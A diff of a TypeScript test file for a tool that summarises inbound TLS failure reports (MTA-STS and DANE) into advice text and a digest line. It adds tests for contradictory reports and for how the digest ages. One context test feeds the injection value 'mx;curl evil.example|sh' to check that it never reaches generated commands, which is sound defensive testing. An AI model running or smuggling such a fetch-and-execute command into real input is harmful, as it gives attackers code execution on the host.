@@ -190,6 +190,17 @@ describe('its words', () => {
     expect(worded(reported(60, 60, { resultType, mx: 'mx2.contoso.com' })).advice[0]).toMatch(text);
   });
 
+  test('say that a report contradicts itself, and that sessions may not fail independently', () => {
+    const surplus = { ...plain, counts: 'surplus' as const, sessions: 4 };
+    const { facts } = worded([...reported(60, 60), surplus]);
+    expect(facts).toContainEqual({
+      label: 'Contradiction',
+      value: 'details name 4 failed sessions more than the summaries, which count',
+    });
+    expect(facts.find(({ label }) => label === 'Share at least')?.value).toContain('if sessions fail independently');
+    expect(worded(reported(60, 60)).facts.map(({ label }) => label)).not.toContain('Contradiction');
+  });
+
   test('put no name of a stranger into a command that is no host name', () => {
     const { advice } = worded(reported(60, 60, { mx: 'mx;curl evil.example|sh' }));
     expect(advice.join()).not.toContain('curl');
@@ -204,10 +215,31 @@ describe('the digest', () => {
       ...{ open: new Map(), calibration: undefined },
     });
 
+  const lineAt = (days: number) =>
+    inboundTlsFailures.digestLine?.({
+      history: givenHistory({
+        ...{ firstDay: FIRST_DAY, reports: [reported(99, 1)], now: startOfDay(FIRST_DAY + days) },
+      }),
+      params: inboundTlsFailures.params.parse({}),
+      ...{ open: new Map(), calibration: undefined },
+    });
+
   test('says what was reported, each domain and policy alone', () => {
     expect(line([...reported(99, 1), ...reported(100, 0, { policyType: 'tlsa', organisation: 'Proseware' })])).toBe(
       'TLS reports of 2 organisations in the 7 days to 2026-11-20, in sessions: contoso.com (MTA-STS) 1 of 100 failed, contoso.com (DANE) 0 of 100 failed.',
     );
+  });
+
+  test.for([
+    [8, /^TLS reports of 1 organisation/],
+    [9, /^No TLS report tells of a day after 2026-11-20\.$/],
+    [29, /^No TLS report/],
+  ] as const)('%d days after the first day of the last report', ([days, words]) => {
+    expect(lineAt(days)).toMatch(words);
+  });
+
+  test('says nothing any more four weeks after the last report', () => {
+    expect(lineAt(30)).toBe(null);
   });
 
   test('says nothing where there is no report', () => {
